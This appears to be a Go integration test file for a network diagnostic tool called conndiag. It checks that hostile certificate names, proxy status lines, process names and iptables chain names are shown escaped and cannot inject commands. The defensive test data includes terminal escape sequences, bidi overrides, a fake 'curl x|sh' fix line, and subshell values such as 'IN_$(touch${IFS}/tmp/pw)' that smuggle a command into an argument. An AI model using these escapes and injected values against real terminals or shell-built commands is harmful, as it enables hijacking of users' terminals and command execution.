//go:build linux

package integration

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"io"
	"math/big"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/conndiag/conndiag/internal/escape"
	"github.com/conndiag/conndiag/internal/probe/probetest"
	"github.com/conndiag/conndiag/internal/testbed"
)

// What a hostile peer puts in the names conndiag shows: an OSC that sets the
// terminal title, a screen clear, a CR/LF followed by a fake fix line, and a
// right-to-left override.
const (
	osc      = "\x1b]0;pwned\x07"
	cls      = "\x1b[2J\x1b[H"
	fakeLine = "\r\n$ curl x|sh"
	rlo      = "\u202e"
)

// shownSafely fails the test when out, conndiag's human output, carries a
// character that can drive a terminal or reorder text, or a line that looks
// like one of its fix commands but came from a peer. want are escaped forms
// that must be there, proving the hostile text did reach the output.
func shownSafely(t *testing.T, what, out string, want ...string) {
	t.Helper()
	for i, line := range strings.Split(strings.TrimSuffix(out, "\n"), "\n") {
		if !escape.IsSafe(line) {
			t.Errorf("%s: line %d carries raw control or bidi characters: %q", what, i+1, line)
		}
		if strings.HasPrefix(strings.TrimSpace(line), "$ curl") {
			t.Errorf("%s: line %d is a fake fix line: %q", what, i+1, line)
		}
	}
	for _, w := range want {
		if !strings.Contains(out, w) {
			t.Errorf("%s: %q missing from:\n%s", what, w, out)
		}
	}
}

// jsonShownSafely decodes every JSON line of out and checks every string in
// it, as a person who pipes it through jq -r would see it.
func jsonShownSafely(t *testing.T, what, out string, want ...string) {
	t.Helper()
	var all []string
	var walk func(v any)
	walk = func(v any) {
		switch x := v.(type) {
		case string:
			all = append(all, x)
		case []any:
			for _, e := range x {
				walk(e)
			}
		case map[string]any:
			for k, e := range x {
				walk(k)
				walk(e)
			}
		}
	}
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var v any
		if err := json.Unmarshal([]byte(line), &v); err != nil {
			t.Fatalf("%s: not JSON: %v\n%s", what, err, out)
		}
		walk(v)
	}
	for _, s := range all {
		if !escape.IsSafe(s) {
			t.Errorf("%s: JSON string carries raw control or bidi characters: %q", what, s)
		}
	}
	joined := strings.Join(all, "\n")
	for _, w := range want {
		if !strings.Contains(joined, w) {
			t.Errorf("%s: %q missing from the JSON strings:\n%s", what, w, out)
		}
	}
}

type hostileCerts struct {
	caFile string
	chain  tls.Certificate // signed by a CA whose subject is hostile; hostile CN and SANs
	self   tls.Certificate // self-signed with the hostile CN
}

func newHostileCerts(t *testing.T) hostileCerts {
	t.Helper()
	key := func() *ecdsa.PrivateKey {
		k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
		if err != nil {
			t.Fatal(err)
		}
		return k
	}
	now := time.Now()
	caKey := key()
	caTmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "Evil CA " + osc + fakeLine, Organization: []string{rlo + "AC live"}},
		NotBefore:    now.Add(-time.Hour), NotAfter: now.Add(24 * time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign,
	}
	caDER, err := x509.CreateCertificate(rand.Reader, caTmpl, caTmpl, &caKey.PublicKey, caKey)
	if err != nil {
		t.Fatal(err)
	}
	ca, err := x509.ParseCertificate(caDER)
	if err != nil {
		t.Fatal(err)
	}
	leaf := func(serial int64, parent *x509.Certificate, signer *ecdsa.PrivateKey, k *ecdsa.PrivateKey) tls.Certificate {
		tmpl := &x509.Certificate{
			SerialNumber: big.NewInt(serial),
			Subject:      pkix.Name{CommonName: "app.test" + cls + osc + rlo + "gnp.exe"},
			// SAN DNS names must be ASCII (IA5String), which ESC, BEL, CR and LF are.
			DNSNames:  []string{"evil" + osc + ".test", "x" + fakeLine},
			NotBefore: now.Add(-time.Hour), NotAfter: now.Add(12 * time.Hour),
			KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
		}
		if parent == nil {
			parent, signer = tmpl, k
		}
		der, err := x509.CreateCertificate(rand.Reader, tmpl, parent, &k.PublicKey, signer)
		if err != nil {
			t.Fatal(err)
		}
		return tls.Certificate{Certificate: [][]byte{der}, PrivateKey: k}
	}
	c := hostileCerts{chain: leaf(2, ca, caKey, key()), self: leaf(3, nil, nil, key())}
	c.caFile = filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(c.caFile, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: caDER}), 0o644); err != nil {
		t.Fatal(err)
	}
	return c
}

// A TLS server whose certificate names carry terminal escapes, a fake
// command line and a bidi override: check tls:// and wss:// show them
// escaped, in the human output and in JSON.
func TestHostileCertificateNames(t *testing.T) {
	testbed.RequireRoot(t)
	n := testbed.Pair(t)
	certs := newHostileCerts(t)
	cfg := func(c tls.Certificate) *tls.Config { return &tls.Config{Certificates: []tls.Certificate{c}} }
	listen := func(port int) net.Listener { return n.Server.Listen(t, "tcp", fmt.Sprintf("198.51.100.3:%d", port)) }
	probetest.ServeTLS(t, listen(8441), certs.chain, probetest.Silent)
	probetest.ServeTLS(t, listen(8442), certs.self, probetest.Silent)
	probetest.ServeHTTP(t, listen(8443), probetest.WebSocket("/chat", ""), cfg(certs.chain))
	probetest.ServeHTTP(t, listen(8444), probetest.WebSocket("/chat", ""), cfg(certs.self))
	trust := "SSL_CERT_FILE=" + certs.caFile
	tests := []struct {
		target string
		env    string
		want   []string // escaped forms that must be shown
	}{
		// The CA is not trusted: the issuer (the CA's hostile subject) is
		// shown. (A distinguished name's own syntax writes ; as \;.)
		{"tls://198.51.100.3:8441", "", []string{`Evil CA \x1b]0\;pwned\x07\r\n$ curl x|sh`, `\xe2\x80\xaeAC live`}},
		{"wss://198.51.100.3:8443/chat", "", []string{`Evil CA \x1b]0\;pwned\x07\r\n$ curl x|sh`, `\xe2\x80\xaeAC live`}},
		// Self-signed: the subject is shown.
		{"tls://198.51.100.3:8442", "", []string{`app.test\x1b[2J\x1b[H\x1b]0\;pwned\x07\xe2\x80\xaegnp.exe`}},
		{"wss://198.51.100.3:8444/chat", "", []string{`app.test\x1b[2J\x1b[H\x1b]0\;pwned\x07\xe2\x80\xaegnp.exe`}},
		// The CA is trusted but the names do not match the address: the names are shown.
		{"tls://198.51.100.3:8441", trust, []string{`evil\x1b]0;pwned\x07.test`, `x\r\n$ curl x|sh`}},
		{"wss://198.51.100.3:8443/chat", trust, []string{`evil\x1b]0;pwned\x07.test`, `x\r\n$ curl x|sh`}},
	}
	for _, tt := range tests {
		t.Run(tt.target+" "+tt.env, func(t *testing.T) {
			env := []string{"LANG=C"}
			if tt.env != "" {
				env = append(env, tt.env)
			}
			for _, lang := range []string{"en", "ar", "zh"} {
				args := append(append([]string{}, env...), bin, "check", "--no-color", "--lang", lang, "--timeout", "1s", "--probe-ports", "", tt.target)
				out, stderr, code := testbed.Exec(t, n.Client, "env", args...)
				if code != 1 || !strings.Contains(out, "tls_certificate") {
					t.Fatalf("%s: exit %d, want 1 with tls_certificate\nstdout:\n%s\nstderr:\n%s", lang, code, out, stderr)
				}
				shownSafely(t, lang+" human", out, tt.want...)
				shownSafely(t, lang+" stderr", stderr)
			}
			args := append(append([]string{}, env...), bin, "check", "--json", "--timeout", "1s", "--probe-ports", "", tt.target)
			out, stderr, code := testbed.Exec(t, n.Client, "env", args...)
			if code != 1 {
				t.Fatalf("json: exit %d\nstdout:\n%s\nstderr:\n%s", code, out, stderr)
			}
			jsonShownSafely(t, "json", out, tt.want...)
		})
	}
}

// A proxy whose CONNECT answer carries escapes, a bare CR that would
// overwrite the line with a fake command, and a bidi override.
func TestHostileProxyStatusLine(t *testing.T) {
	testbed.RequireRoot(t)
	n := testbed.Pair(t)
	probetest.ServeHTTP(t, n.Server.Listen(t, "tcp", "198.51.100.3:8282"), probetest.HTTP("nginx/1.24.0"), nil)
	probetest.Serve(t, n.Server.Listen(t, "tcp", "198.51.100.3:3128"), func(c net.Conn) {
		c.SetDeadline(time.Now().Add(5 * time.Second))
		buf := make([]byte, 4096)
		c.Read(buf)
		io.WriteString(c, "HTTP/1.1 403 Forbidden"+osc+cls+"\r$ curl x|sh "+rlo+"\r\n\r\n")
	})
	env := []string{"HTTP_PROXY=http://198.51.100.3:3128"}
	want := `403 Forbidden\x1b]0;pwned\x07\x1b[2J\x1b[H\r$ curl x|sh \xe2\x80\xae`
	for _, lang := range []string{"en", "ar", "zh"} {
		out, stderr, code := testbed.Exec(t, n.Client, "env", append(env, bin, "check", "--no-color", "--lang", lang, "--probe-ports", "", "http://198.51.100.3:8282/")...)
		if code != 1 || !strings.Contains(out, "proxy_in_path") {
			t.Fatalf("%s: exit %d, want 1 with proxy_in_path\nstdout:\n%s\nstderr:\n%s", lang, code, out, stderr)
		}
		shownSafely(t, lang, out, want)
	}
	out, _, _ := testbed.Exec(t, n.Client, "env", append(env, bin, "check", "--json", "--probe-ports", "", "http://198.51.100.3:8282/")...)
	jsonShownSafely(t, "json", out, want)
}

// Any local user can give a process any name. Two listeners whose names
// (the kernel keeps 15 bytes of the executable's file name as comm) carry
// an OSC, a CR/LF with a fake prompt, a screen clear and a bidi override.
func TestHostileProcessName(t *testing.T) {
	testbed.RequireRoot(t)
	ns := testbed.New(t).NS("server")
	dir := t.TempDir()
	names := map[int]string{8501: "\x1b]0;pw\x07\r\n$ sh", 8502: rlo + "\x1b[2Jgnp"}
	for port, name := range names {
		if len(name) > 15 {
			t.Fatalf("%q is longer than comm keeps", name)
		}
		exe := filepath.Join(dir, name)
		copyFile(t, bin, exe)
		ns.Start(t, exe, "listen", fmt.Sprintf("tcp://127.0.0.1:%d", port))
		ns.WaitListening(t, "tcp", port, 10*time.Second)
	}
	var want []string
	for _, name := range names {
		want = append(want, escape.String(name)+"[")
	}
	for _, lang := range []string{"en", "ar", "zh"} {
		out, stderr, code := testbed.Exec(t, ns, bin, "server", "--no-color", "--lang", lang, "8501", "8502")
		if code != 1 {
			t.Fatalf("%s: exit %d\nstdout:\n%s\nstderr:\n%s", lang, code, out, stderr)
		}
		shownSafely(t, lang, out, want...)
	}
	out, stderr, code := testbed.Exec(t, ns, bin, "server", "--json", "8501", "8502")
	r := parseServer(t, out, stderr, code)
	jsonShownSafely(t, "json", out)
	for _, p := range r.Ports {
		if len(p.Listeners) != 1 || p.Listeners[0].Process != escape.String(names[p.Port]) {
			t.Errorf("port %d: listeners %s, want process %q", p.Port, dump(p.Listeners), escape.String(names[p.Port]))
		}
	}
}

func copyFile(t *testing.T, from, to string) {
	t.Helper()
	b, err := os.ReadFile(from)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(to, b, 0o755); err != nil {
		t.Fatal(err)
	}
}

// An iptables chain named like a firewalld zone but carrying shell syntax,
// and a rule comment carrying escapes. Every fix line conndiag prints must be
// quoted or left out: pasted into sh (inside the namespace, in a scratch
// directory, with a PATH whose touch works), none of them creates /tmp/pw.
func TestHostileChainName(t *testing.T) {
	testbed.RequireRoot(t)
	testbed.RequireTool(t, "iptables")
	const chain = "IN_$(touch${IFS}/tmp/pw)"
	const pw = "/tmp/pw"
	if _, err := os.Lstat(pw); err == nil {
		t.Fatalf("%s exists before the test: remove it", pw)
	}
	t.Cleanup(func() { os.Remove(pw) })
	ns := testbed.New(t).NS("server")
	ns.Iptables(t, "-N", chain)
	ns.Iptables(t, "-A", chain, "-p", "tcp", "--dport", "8282", "-m", "comment", "--comment", "drop"+osc+cls+rlo, "-j", "DROP")
	ns.Iptables(t, "-A", "INPUT", "-j", chain)
	ns.ServeAccept(t, ns.Listen(t, "tcp", "0.0.0.0:8282"))

	out, stderr, code := testbed.Exec(t, ns, bin, "server", "--no-color", "8282")
	if code != 1 || !strings.Contains(out, "firewall_local") {
		t.Fatalf("exit %d, want 1 with firewall_local\nstdout:\n%s\nstderr:\n%s", code, out, stderr)
	}
	shownSafely(t, "human", out, chain, `drop\x1b]0;pwned\x07\x1b[2J\x1b[H\xe2\x80\xae`)
	var cmds []string
	for _, line := range strings.Split(out, "\n") {
		if c, ok := strings.CutPrefix(strings.TrimSpace(line), "$ "); ok {
			cmds = append(cmds, c)
		}
	}
	for _, c := range cmds {
		if err := escape.CheckLine(c); err != nil {
			t.Errorf("fix line %q: %v", c, err)
		}
	}
	// The chain only looks like firewalld's: no firewall-cmd command carries
	// its "zone", quoted or not; the rule is an iptables rule, opened as one
	// (the firewall package checks every name it puts into a command).
	if strings.Contains(out, "firewall-cmd") {
		t.Errorf("a firewalld zone was taken from the chain name:\n%s", out)
	}
	if !strings.Contains(out, "$ iptables -I INPUT -p tcp --dport 8282 -j ACCEPT") {
		t.Errorf("the iptables opening is not offered:\n%s", out)
	}
	jout, jerr, jcode := testbed.Exec(t, ns, bin, "server", "--json", "8282")
	r := parseServer(t, jout, jerr, jcode)
	jsonShownSafely(t, "json", jout)
	for _, p := range r.Ports {
		for _, fw := range p.Firewall {
			for _, c := range fw.Open {
				if err := escape.CheckLine(c); err != nil {
					t.Errorf("JSON offers %q: %v", c, err)
				}
				cmds = append(cmds, c)
			}
		}
	}

	// Paste them. A scratch directory, and a PATH of stubs for the tools the
	// fix lines name plus a working touch, so that an injection would run.
	scratch := t.TempDir()
	stubs := filepath.Join(scratch, "bin")
	if err := os.Mkdir(stubs, 0o755); err != nil {
		t.Fatal(err)
	}
	for _, tool := range []string{"firewall-cmd", "iptables", "ip6tables", "nft", "ufw", "netfilter-persistent", "service", "ss", "sysctl"} {
		if err := os.WriteFile(filepath.Join(stubs, tool), []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	touch, err := lookTouch()
	if err != nil {
		t.Skip(err)
	}
	if err := os.Symlink(touch, filepath.Join(stubs, "touch")); err != nil {
		t.Fatal(err)
	}
	paste := func(line string) (string, error) {
		return ns.Try("env", "-i", "PATH="+stubs, "HOME="+scratch, "/bin/sh", "-c", "cd \"$HOME\" && "+line)
	}
	// The sandbox runs an injection when there is one: the raw opening
	// command, as conndiag printed it before, creates its file.
	control := "firewall-cmd --permanent --zone=$(touch${IFS}control) --add-port=8282/tcp && firewall-cmd --reload"
	if out, err := paste(control); err != nil || !exists(filepath.Join(scratch, "control")) {
		t.Fatalf("the sandbox does not run an injection (%v: %s): the test cannot fail", err, out)
	}
	for _, c := range cmds {
		if out, err := ns.Try("env", "-i", "PATH="+stubs, "/bin/sh", "-n", "-c", c); err != nil {
			t.Errorf("sh -n %q: %v %s", c, err, out)
		}
		paste(c) // its exit status does not matter (a stub or a missing tool); what it creates does
	}
	if exists(pw) {
		t.Errorf("pasting a fix line created %s; lines:\n%s", pw, strings.Join(cmds, "\n"))
	}
	if len(cmds) == 0 {
		t.Logf("no fix command offered (the opening is withheld):\n%s", out)
	}
}

func lookTouch() (string, error) {
	for _, p := range []string{"/usr/bin/touch", "/bin/touch"} {
		if _, err := os.Stat(p); err == nil {
			return p, nil
		}
	}
	return "", fmt.Errorf("no touch binary")
}

func exists(path string) bool {
	_, err := os.Lstat(path)
	return err == nil
}
